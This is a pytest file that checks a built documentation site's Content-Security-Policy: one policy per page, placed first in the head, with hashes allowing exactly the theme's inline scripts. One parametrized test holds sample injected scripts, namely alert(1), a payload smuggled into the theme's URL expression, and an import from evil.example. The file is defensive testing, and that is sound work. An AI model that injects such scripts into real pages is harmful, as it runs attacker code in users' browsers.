"""The Content-Security-Policy on every built page: first in <head>, and allowing exactly the page's theme scripts."""

from __future__ import annotations

import re

import pytest

import csp
from support.sitefiles import html_pages

META_RE = re.compile(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">')
# Theme templates as in a build: our overrides, then Material's.
THEME = (
    '<head><script>__md_scope=new URL("{{ base_url }}",location)</script>'
    '{% if x %}<script>var target=document.getElementById("{{ id }}")</script>{% endif %}</head>'
)


@pytest.fixture(scope="module")
def theme(tmp_path_factory):
    folder = tmp_path_factory.mktemp("theme")
    (folder / "base.html").write_text(THEME, encoding="utf-8")
    return csp.theme_code((str(folder),))


def directives(policy: str) -> dict[str, list[str]]:
    return {d.split()[0]: d.split()[1:] for d in policy.split("; ")}


def test_every_page_has_one_policy_before_anything_it_governs(site):
    pages = html_pages(site)
    assert len(pages) > 50 and any(p.name == "404.html" for p in pages)
    for page in pages:
        html = page.read_text(encoding="utf-8")
        assert len(META_RE.findall(html)) == 1, page
        head = html[: html.index(META_RE.search(html).group(0))]
        assert not re.search(r"<(script|style|link|base)\b", head, re.I), page


def test_the_policy_allows_exactly_the_inline_scripts_on_the_page(site):
    seen = set()
    for page in html_pages(site):
        html = page.read_text(encoding="utf-8")
        policy = directives(META_RE.search(html).group(1))
        scripts = [csp.sha256(body) for tag, body in csp.inline_code(html) if tag == "script"]
        assert len(scripts) == 3, page  # Material's scope, palette and anchor-target scripts
        assert policy["script-src"] == ["'self'", *scripts], page
        assert "'unsafe-inline'" not in str(policy) and "'unsafe-eval'" not in str(policy)
        assert policy["object-src"] == ["'none'"] and policy["base-uri"] == ["'self'"]
        assert policy["form-action"] == ["'none'"] and policy["default-src"] == ["'self'"]
        seen.add(scripts[0])
    # Material's first script holds the path to the site root, so pages at different depths differ.
    assert len(seen) >= 3


def test_theme_scripts_are_allowed_whatever_value_they_print(theme):
    html = '<head><meta charset="utf-8"><script>__md_scope=new URL("../..",location)</script></head>'
    assert directives(csp.policy(html, theme))["script-src"] == [
        "'self'",
        csp.sha256('__md_scope=new URL("../..",location)'),
    ]
    assert csp.with_policy(html, theme).startswith('<head><meta charset="utf-8">\n<meta http-equiv=')


@pytest.mark.parametrize(
    "script",
    [
        "<script>alert(1)</script>",
        '<script>__md_scope=new URL("x"),alert(1),("",location)</script>',
        "<script type=module>import('https://evil.example/x.js')</script>",
    ],
)
def test_an_inline_script_the_theme_does_not_have_stops_the_build(theme, script):
    with pytest.raises(csp.UnknownInlineCode, match="is not part of the theme"):
        csp.policy(f"<head></head><body>{script}</body>", theme)


def test_data_scripts_and_script_files_need_no_hash(theme):
    html = '<script type="application/ld+json">{"a": 1}</script><script src="x.js"></script>'
    assert directives(csp.policy(html, theme))["script-src"] == ["'self'"]
